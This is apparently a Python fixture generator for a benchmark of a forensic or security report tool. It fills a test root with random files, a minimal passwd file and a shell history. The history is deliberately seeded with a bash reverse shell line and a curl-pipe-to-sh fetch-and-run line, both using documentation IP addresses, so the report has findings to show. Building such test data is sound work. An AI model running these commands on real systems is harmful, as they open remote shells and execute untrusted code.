#!/usr/bin/env python3
"""Generates a root for the report benchmark: 200,000 files of incompressible bytes
(about 500 MB, so the archive is as large), 2,000 directories, and a shell history with
a reverse shell and a fetch-and-run line, so the report has findings to show.
Deterministic (fixed seed), so every run measures the same tree.
"""
import os
import random
import sys

root = sys.argv[1]
random.seed(17)
for d in range(2000):
    sub = os.path.join(root, "srv/data/d%04d" % d)
    os.makedirs(sub, exist_ok=True)
    for f in range(100):
        with open(os.path.join(sub, "f%03d.bin" % f), "wb") as out:
            out.write(random.randbytes(2000 + random.randrange(1000)))
os.makedirs(os.path.join(root, "root"), exist_ok=True)
os.makedirs(os.path.join(root, "etc"), exist_ok=True)
with open(os.path.join(root, "etc/passwd"), "w") as out:
    out.write("root:x:0:0:root:/root:/bin/sh\n")
with open(os.path.join(root, "root/.bash_history"), "w") as out:
    for i in range(5000):
        out.write("ls -la /srv/data/d%04d\n" % (i % 2000))
    out.write("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
    out.write("curl -fsSL http://198.51.100.7/x.sh | sh\n")
